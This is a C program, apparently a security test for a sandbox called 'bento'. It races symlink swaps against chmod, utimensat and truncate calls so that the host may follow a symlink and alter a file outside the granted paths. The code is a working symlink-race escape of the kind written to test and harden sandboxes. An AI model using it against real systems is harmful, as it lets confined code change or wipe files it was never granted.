// race DIR VICTIM SECONDS: a race against bento's own path checks, with
// ordinary libc calls. In DIR (a rw mount) one process keeps swapping the
// name DIR/f between a regular file and a symlink to VICTIM (a host path
// outside every granted path), while the other keeps calling chmod(DIR/f,
// 0777), utimensat(DIR/f, {0, 0}) and truncate(DIR/f, 0) for SECONDS.
// bento resolves DIR/f and then asks the host; should the host follow a
// symlink that appeared in between, VICTIM's mode, times or size change.
// run.sh checks VICTIM on the host afterwards.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 4 || chdir(argv[1]) < 0)
		return 2;
	const char *victim = argv[2];
	int secs = atoi(argv[3]);
	close(creat("f", 0644));
	pid_t pid = fork();
	if (pid == 0) {
		for (;;) {
			unlink("s.tmp");
			if (symlink(victim, "s.tmp") == 0)
				rename("s.tmp", "f");
			close(creat("r.tmp", 0644));
			rename("r.tmp", "f");
		}
	}
	time_t end = time(NULL) + secs;
	long tries = 0, ok = 0;
	struct timespec zero[2] = { { 0, 0 }, { 0, 0 } };
	while (time(NULL) < end) {
		ok += chmod("f", 0777) == 0;
		ok += utimensat(AT_FDCWD, "f", zero, 0) == 0;
		ok += truncate("f", 0) == 0;
		tries += 3;
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	printf("tries %ld, succeeded %ld\n", tries, ok);
	return 0;
}
